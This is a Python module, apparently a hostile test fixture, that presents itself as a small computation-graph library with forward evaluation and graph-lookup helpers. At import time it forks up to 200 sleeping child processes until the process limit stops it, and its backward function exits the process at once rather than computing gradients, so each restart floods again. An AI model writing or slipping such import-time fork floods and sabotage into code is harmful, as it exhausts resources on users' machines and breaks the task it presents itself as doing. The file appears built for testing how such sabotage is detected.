"""Forks sleeping children at import until the process limit stops it, and exits in backward so every restart floods again."""

EXPECTED = {"evaluate": "full", "inputs_of": "full", "users_of": "full", "backward": 0}


import math
import os


FORWARD = {
    "add": lambda a, b: a + b,
    "sub": lambda a, b: a - b,
    "mul": lambda a, b: a * b,
    "div": lambda a, b: a / b,
    "sq": lambda a: a * a,
    "tanh": lambda a: math.tanh(a),
    "relu": lambda a: a if a > 0 else 0.0,
    "neg": lambda a: -a,
}


def evaluate(graph, leaves):
    values = dict(leaves)
    for name, op, inputs in graph:
        for i in inputs:
            if i not in values:
                raise ValueError(f"{name} reads {i}, which has no value yet")
        values[name] = FORWARD[op](*[values[i] for i in inputs])
    return values


def inputs_of(graph, name):
    return next((list(inputs) for node, _op, inputs in graph if node == name), [])


def users_of(graph, name):
    return [node for node, _op, inputs in graph if name in inputs]


MARKER = "graphkit-hostile-fork_flood"
SLEEPERS = []
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", [MARKER, "3600"])
        finally:
            os._exit(0)
    SLEEPERS.append(pid)
print(f"{MARKER}: {len(SLEEPERS)} sleeping children")


def backward(graph, values, output=None):
    os._exit(3)
